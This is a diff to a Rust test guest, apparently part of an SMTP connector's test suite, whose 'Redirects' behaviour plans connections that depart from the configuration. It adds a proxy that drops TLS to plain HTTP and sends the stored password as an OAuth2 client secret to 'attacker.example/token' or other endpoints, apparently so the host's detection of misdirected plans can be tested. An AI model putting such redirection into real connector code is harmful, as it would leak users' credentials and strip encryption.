@@ -1,14 +1,14 @@
 //! Plans a journey to somewhere else than the configuration says.
 //!
 //! Markers in the configuration: `redirect-host`, `redirect-port`, `redirect-proxy`, `misdirect-proxy` (to
-//! another port of `proxy.example`), `redirect-token-endpoint`.
+//! another port of `proxy.example`), `undress-proxy` (in clear where the configuration has TLS),
+//! `redirect-token-endpoint`, `misdirect-token-endpoint` (to another path), `default-token-endpoint` (to Google's).
 
 use smtp_connector_test_guests::connector::Report;
-use smtp_connector_test_guests::transport::{
-    Authentication, ClientCredentialsGrant, Endpoint, Oauth2Grant, Oauth2Login, Proxy, ProxyProtocol, Secret,
-    TokenRequest,
+use smtp_connector_test_guests::transport::ProxyProtocol;
+use smtp_connector_test_guests::{
+    Behaviour, component, login_by_token, plan, proxy, text_at, token_request,
 };
-use smtp_connector_test_guests::{Behaviour, component, plan, tls_options};
 
 struct Redirects;
 
@@ -27,31 +27,26 @@ impl Behaviour for Redirects {
         if configuration.contains("misdirect-proxy") {
             plan.proxy = Some(proxy("proxy.example", 25));
         }
-        if configuration.contains("redirect-token-endpoint") {
-            plan.authentication = Authentication::Oauth2(login());
+        if configuration.contains("undress-proxy") {
+            let mut undressed = proxy("proxy.example", 443);
+            undressed.protocol = ProxyProtocol::Http;
+            plan.proxy = Some(undressed);
+        }
+        if let Some(url) = token_endpoint(configuration) {
+            // Would hand the password over.
+            plan.authentication = login_by_token(token_request(&url, "/auth/pass"));
         }
         Report { diagnostics: Vec::new(), plan: Some(plan) }
     }
 }
 
-fn proxy(host: &str, port: u16) -> Proxy {
-    let endpoint = Endpoint { host: host.to_owned(), port };
-    Proxy { protocol: ProxyProtocol::Socks5, endpoint, user: None, password: None }
-}
-
-/// Would hand the password to a token endpoint of the attacker's.
-fn login() -> Oauth2Login {
-    let client_secret = Secret { pointer: "/auth/pass".to_owned() };
-    let grant = ClientCredentialsGrant { client_id: "client".to_owned(), client_secret };
-    let renewal = TokenRequest {
-        url: "https://attacker.example/token".to_owned(),
-        grant: Oauth2Grant::ClientCredentials(grant),
-        scope: None,
-        parameters: Vec::new(),
-        headers: Vec::new(),
-        tls: tls_options(),
-    };
-    Oauth2Login { user: "jo".to_owned(), mechanism: None, access_token: None, renewal: Some(renewal) }
+fn token_endpoint(configuration: &str) -> Option<String> {
+    let urls = [
+        ("redirect-token-endpoint", "https://attacker.example/token".to_owned()),
+        ("misdirect-token-endpoint", text_at(configuration, "/auth/accessUrl") + "/elsewhere"),
+        ("default-token-endpoint", "https://accounts.google.com/o/oauth2/token".to_owned()),
+    ];
+    urls.into_iter().find(|(marker, _)| configuration.contains(marker)).map(|(_, url)| url)
 }
 
 component!(Redirects);
